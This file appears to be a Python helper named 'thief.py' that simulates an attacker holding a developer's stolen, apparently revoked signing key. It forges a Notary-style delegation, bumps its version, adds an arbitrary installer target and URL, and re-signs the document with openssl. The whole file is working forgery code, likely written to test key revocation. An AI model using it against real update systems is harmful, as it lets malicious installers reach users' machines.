#!/usr/bin/env python3
"""What a thief does with a developer's key when the stock client won't: signs a document by hand.

    thief.py DOCUMENT KEY PASSPHRASE_FILE TARGET INSTALLER URL >FORGED

DOCUMENT is a delegation of profile `notary` that the key has signed before; FORGED is its version ten
above it, with INSTALLER as TARGET at URL, and a signature of KEY that is right in all but
that nobody wants it any more. Only the standard library and the program `openssl` are needed.
"""

import base64
import hashlib
import json
import subprocess
import sys
import tempfile
from pathlib import Path


def raw(der: bytes) -> bytes:
    """Both numbers of an ECDSA signature, 32 bytes each, out of its DER form."""
    numbers, at = b"", 2
    for _ in range(2):
        length = der[at + 1]
        numbers += der[at + 2 : at + 2 + length].lstrip(b"\0").rjust(32, b"\0")
        at += 2 + length
    return numbers


def signature(key: Path, phrase: Path, payload: bytes) -> bytes:
    # The stock client writes headers into its key files, of which openssl knows nothing.
    lines = [line for line in key.read_text().splitlines() if ":" not in line]
    with tempfile.NamedTemporaryFile("w", suffix=".pem") as plain:
        plain.write("\n".join(line for line in lines if line) + "\n")
        plain.flush()
        sign = ["openssl", "dgst", "-sha256", "-sign", plain.name, "-passin", f"file:{phrase}"]
        return raw(subprocess.run(sign, input=payload, capture_output=True, check=True).stdout)


def main() -> None:
    if len(sys.argv) != 7:
        sys.exit("usage: thief.py DOCUMENT KEY PASSPHRASE_FILE TARGET INSTALLER URL")
    document, key, phrase, target, installer, url = sys.argv[1:]
    document = json.loads(Path(document).read_bytes())
    content = Path(installer).read_bytes()
    digests = {name: hashlib.new(name, content).digest() for name in ("sha256", "sha512")}
    document["signed"]["version"] += 10
    document["signed"]["targets"][target] = {
        "custom": {"url": url},
        "hashes": {name: base64.b64encode(digest).decode() for name, digest in digests.items()},
        "length": len(content),
    }
    compact = {"sort_keys": True, "separators": (",", ":"), "ensure_ascii": False}
    payload = json.dumps(document["signed"], **compact).encode()
    signed = base64.b64encode(signature(Path(key), Path(phrase), payload)).decode()
    signatures = json.dumps([document["signatures"][0] | {"sig": signed}], **compact)
    # In the very form in which the server keeps it, or no client could use it.
    sys.stdout.write(f'{{"signed":{payload.decode()},"signatures":{signatures}}}')


if __name__ == "__main__":
    main()
